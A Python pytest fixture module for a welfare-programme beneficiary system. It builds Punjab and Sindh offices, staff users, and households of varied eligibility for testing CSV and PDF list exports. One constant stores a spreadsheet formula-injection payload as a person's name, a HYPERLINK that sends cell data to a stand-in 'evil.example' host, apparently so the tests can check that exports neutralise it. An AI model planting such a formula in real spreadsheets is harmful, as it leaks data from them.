"""Beneficiary-list fixtures: a small rule pack, two offices, and households of every outcome."""

from __future__ import annotations

import csv
import datetime as dt
import io
import unicodedata
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from factories import default_areas, make_household, make_office, make_user, member_data
from flask import Flask
from sqlalchemy import select
from sqlalchemy.orm import Session

from sw_mis.eligibility.engine import screen_household
from sw_mis.eligibility.loader import load_rules
from sw_mis.eligibility.service import household_snapshot
from sw_mis.registry.models import Household
from sw_mis.registry.visibility import only_visible

RULES = Path(__file__).parent / "rules"
AS_OF = dt.date(2025, 3, 1)
CASH, PENSION = "pk-test-cash", "pk-test-pension"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
URDU = ("محمد", "عمران خان")


@pytest.fixture(scope="session")
def book():
    """The list test rule pack (PK: household-level cash, member-level pension)."""
    loaded = load_rules(RULES)
    assert not loaded.errors, loaded.errors
    return loaded


@pytest.fixture
def list_app(app: Flask, book, monkeypatch: pytest.MonkeyPatch) -> Flask:
    """The app, screening with the list test rule pack."""
    monkeypatch.setitem(app.extensions, "sw_mis.rulebook", book)
    return app


def poor(session: Session, user: Any, members: list[dict[str, Any]], **facts: Any) -> Household:
    """Register a household; by default poor enough for the cash scheme."""
    data = {
        "in_social_registry": True,
        "pmt_score": 20,
        "owns_motor_vehicle": False,
        "members": members,
    }
    data.update(facts)
    return make_household(session, user, **data)


@pytest.fixture
def world(db_session: Session, list_app: Flask) -> SimpleNamespace:
    """Users of the Punjab and Sindh offices, and households of every outcome in both."""
    default_areas(db_session)
    pb = make_office(db_session, "PB-01", ["PK-PB"], name="Punjab office")
    sd = make_office(db_session, "SD-01", ["PK-SD"], name="Sindh office")
    w = SimpleNamespace(
        officer=make_user(db_session, "programme_officer", pb),
        supervisor=make_user(db_session, "supervisor", pb),
        data_manager=make_user(db_session, "data_manager", pb),
        clerk=make_user(db_session, "clerk", pb),
        admin=make_user(db_session, "admin"),
        sindh_officer=make_user(db_session, "programme_officer", sd),
        sindh_clerk=make_user(db_session, "clerk", sd),
    )
    old = dt.date(1950, 3, 1)
    w.urdu = poor(
        db_session,
        w.clerk,
        [
            member_data(
                given_name=URDU[0],
                family_name=URDU[1],
                sex="male",
                date_of_birth=old,
                receives_pension=False,
                national_id="3520200000011",
            ),
            member_data(
                given_name="Amina",
                family_name="Bibi",
                relationship_to_head="spouse",
                marital_status="married",
                date_of_birth=dt.date(1958, 1, 1),
                receives_pension=True,
                national_id="3520200000029",
            ),
            member_data(
                given_name="Bilal",
                family_name="Khan",
                sex="male",
                relationship_to_head="child",
                marital_status="never_married",
                date_of_birth=dt.date(2012, 6, 1),
            ),
        ],
        locality="Model Town",
    )
    w.formula = poor(
        db_session,
        w.clerk,
        [
            member_data(
                given_name=FORMULA_NAME,
                family_name="Khan",
                date_of_birth=old,
                receives_pension=False,
                national_id="3520200000037",
            ),
        ],
        locality="+92 Mall Road",
        admin3="PK-PB-LHR-1",
    )
    w.accents = poor(
        db_session,
        w.clerk,
        [
            member_data(
                given_name="Zoë",
                family_name="D'Souza-Gonçalves",
                date_of_birth=old,
                receives_pension=False,
            ),
            member_data(
                given_name="José",
                family_name="D'Souza",
                sex="male",
                relationship_to_head="spouse",
                marital_status="married",
                date_of_birth=dt.date(1948, 2, 2),
                receives_pension=False,
            ),
        ],
        locality="Gulberg",
    )
    # Unknown facts: the cash scheme cannot decide; nor the pension (pension unknown).
    w.unknown = poor(
        db_session,
        w.clerk,
        [
            member_data(date_of_birth=dt.date(1955, 1, 1), national_id="3520200000045"),
        ],
        in_social_registry=None,
    )
    w.rich = poor(
        db_session, w.clerk, [member_data(date_of_birth=dt.date(1990, 1, 1))], pmt_score=80
    )
    w.sindh = poor(
        db_session,
        w.sindh_clerk,
        [
            member_data(
                given_name="Sindhi",
                family_name="Eligible",
                date_of_birth=old,
                receives_pension=False,
                national_id="4210100000016",
            ),
        ],
    )
    db_session.flush()
    return w


def counter_rows(
    session: Session,
    book,
    user: Any,
    scheme_id: str,
    outcome: str,
) -> set[tuple[str, int | None]]:
    """(household ref, member id or None) the counter back-end puts on the list for ``user``."""
    households = session.scalars(
        only_visible(select(Household).where(Household.status == "active"), session, user)
    ).all()
    found: set[tuple[str, int | None]] = set()
    for h in households:
        for r in screen_household(book, household_snapshot(h), AS_OF, schemes=[scheme_id]):
            if r.unit == "household":
                if r.outcome == outcome:
                    found.add((h.ref, None))
            else:
                found |= {(h.ref, int(m["id"])) for m in r.members if m["outcome"] == outcome}
    return found


def parse_csv(data: bytes) -> list[dict[str, str]]:
    """Parse an exported CSV (UTF-8 with BOM) into dicts by heading."""
    assert data.startswith("\ufeff".encode()), "no BOM: Excel would misread Urdu names"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def list_keys(rows: list[dict[str, str]]) -> set[tuple[str, int | None]]:
    """(household ref, member id or None) of parsed list rows."""
    return {(r["Household"], int(r["Member id"]) if r.get("Member id") else None) for r in rows}


def normalise(text: str) -> str:
    """Normalise PDF text for comparison: NFKC (folds Arabic presentation forms), one space."""
    return " ".join(unicodedata.normalize("NFKC", text).split())
